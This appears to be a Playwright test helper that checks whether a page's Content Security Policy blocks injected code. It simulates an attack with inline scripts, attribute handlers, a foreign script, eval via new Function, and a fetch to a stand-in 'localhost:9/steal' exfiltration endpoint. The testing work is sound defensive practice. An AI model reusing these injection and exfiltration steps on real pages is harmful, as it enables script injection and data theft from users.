import type { Page } from 'playwright-core';

/** What of an attack the policy says no to, as PageWatch notes it. Of the last two nothing would come here in any case. */
export const REFUSED = [
  ...['script-src-elem refused inline', 'script-src-attr refused inline', 'script-src refused eval'],
  ...['script-src-elem refused http://localhost:9/foreign.js', 'connect-src refused http://localhost:9/steal'],
];

/** Does what an injection would do; answers what of it had an effect. */
export async function attack(page: Page): Promise<string[]> {
  return await page.evaluate(async (refusals) => {
    const ran: string[] = [];
    let refused = 0;
    const allRefused = new Promise<void>((resolve) => {
      addEventListener('securitypolicyviolation', () => ++refused === refusals && resolve());
      setTimeout(resolve, 5_000);
    });
    const world = window as unknown as { note: (what: string) => void };
    world.note = (what) => ran.push(what);
    const inline = document.createElement('script');
    inline.textContent = "note('an inline script')";
    document.head.append(inline);
    const button = document.createElement('button');
    button.setAttribute('onclick', "note('a handler in an attribute')");
    document.body.append(button);
    button.click();
    const foreign = document.createElement('script');
    foreign.src = 'http://localhost:9/foreign.js';
    const settled = new Promise((resolve) => foreign.addEventListener('error', resolve));
    document.head.append(foreign);
    await settled;
    try {
      new Function("note('a made function')")();
    } catch {
      // Refused, as it should be.
    }
    await fetch('http://localhost:9/steal').catch(() => {});
    await allRefused;
    return ran;
  }, REFUSED.length);
}
